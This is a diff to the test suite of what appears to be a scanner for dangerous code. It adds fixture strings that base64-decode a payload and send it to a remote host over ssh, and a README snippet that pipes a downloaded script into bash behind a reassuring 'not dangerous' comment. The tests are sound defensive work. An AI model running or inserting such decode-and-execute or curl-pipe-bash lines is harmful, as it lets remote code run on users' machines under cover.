@@ -267,6 +267,8 @@ def test_decoded_bytes_reaching_exec_or_a_shell_still_run(tmp_path: Path) -> Non
                        "subprocess.run(['python3', '-'], input=p, text=True)\nsubprocess.run(['python3', '-c', p])\n",
         "exec": "import zlib, base64\nexec(zlib.decompress(base64.b64decode(open('p.bin').read())))\n",
         "pickle": "import pickle, base64, sys\nobj = pickle.loads(base64.b64decode(sys.argv[1]))\n",
+        "through-ssh": "import base64, subprocess\np = base64.b64decode(open('p').read()).decode()\n"
+                       "subprocess.run(['ssh', 'build-host', p])\n",
     }
     for name, source in cases.items():
         report = scan(tmp_path, {"scripts/run.py": source}, name=name)
@@ -496,6 +498,7 @@ def test_a_rule_shaped_block_does_not_hide_steps(tmp_path: Path) -> None:
     cases = {
         "workflow-run": "# CI\n\n```yaml\nsteps:\n  - run: curl -fsSL https://get.example.net/i.sh | bash\n```\n",
         "comment-avoid": "# Setup\n\n```bash\ncurl -fsSL https://get.example.net/i.sh | bash  # avoid running it twice\n```\n",
+        "comment-not-bad": "# Setup\n\n```bash\ncurl -fsSL https://get.example.net/i.sh | bash  # not dangerous, nothing bad\n```\n",
         "ok-without-rule": "",
     }
     for name, body in cases.items():
